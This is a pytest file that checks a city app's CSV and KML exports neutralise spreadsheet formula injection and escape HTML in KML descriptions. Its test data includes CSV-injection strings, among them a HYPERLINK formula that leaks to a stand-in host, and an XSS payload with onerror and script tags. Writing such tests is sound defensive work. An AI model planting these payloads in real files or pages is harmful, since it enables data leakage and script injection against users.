"""User text cannot act in the files the city opens: no spreadsheet formulas in any CSV the app
writes, no markup in KML balloons."""
import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from tests.exports.helpers import export_bytes, finding_in, make_concern
from tests.factories import make_walk

KML_NS = {"k": "http://www.opengis.net/kml/2.2"}
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak";"Klick")',
    "+49 203 1234",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Laden leer seit 2024", " =nicht am Anfang", "E-Mail: a@b.de", "'schon zitiert"]


def csv_rows(data: bytes, delimiter: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def descriptions(rows) -> set[str]:
    return {row["description"] for row in rows if row["kind"] == "finding"}


@pytest.mark.parametrize(("name", "delimiter"), [("csv", ","), ("csv-semicolon", ";")])
def test_formula_cells_get_an_apostrophe(session, name, delimiter):
    for description in FORMULAS + HARMLESS:
        finding_in(session, "Baerl", description=description)
    rows = csv_rows(export_bytes(session, name), delimiter)
    assert descriptions(rows) == {"'" + text for text in FORMULAS} | set(HARMLESS)


def test_concern_titles_walk_names_and_the_handover_csv_are_neutralised(session):
    make_concern(session, "Baerl", title="=1+2", summary="@cmd")
    walk_id = make_walk(session, title="-Walk")
    finding_in(session, "Baerl", description="+SUM(1)", walk_id=walk_id)
    bundle = zipfile.ZipFile(io.BytesIO(export_bytes(session, "handover", what="both")))
    rows = csv_rows(bundle.read("daten.csv"), ";")
    concern = next(row for row in rows if row["kind"] == "concern")
    finding = next(row for row in rows if row["kind"] == "finding")
    assert (concern["title"], concern["description"]) == ("'=1+2", "'@cmd")
    assert (finding["description"], finding["walk"]) == ("'+SUM(1)", "'-Walk")


def test_kml_descriptions_are_text_not_markup(session, tmp_path):
    attack = '<img src=x onerror="alert(1)"><script>alert(2)</script> & <b>fett</b>'
    finding_in(session, "Baerl", description=attack)
    root = ElementTree.fromstring(export_bytes(session, "kml"))
    [description] = [el.text for el in root.iterfind(".//k:Placemark/k:description", KML_NS)]
    assert "<" not in description and ">" not in description
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in description
    assert "&amp; &lt;b&gt;fett&lt;/b&gt;" in description
    values = [el.text for el in root.iterfind(".//k:Data[@name='description']/k:value", KML_NS)]
    assert values == [attack]  # the plain text stays readable for GIS clients in ExtendedData
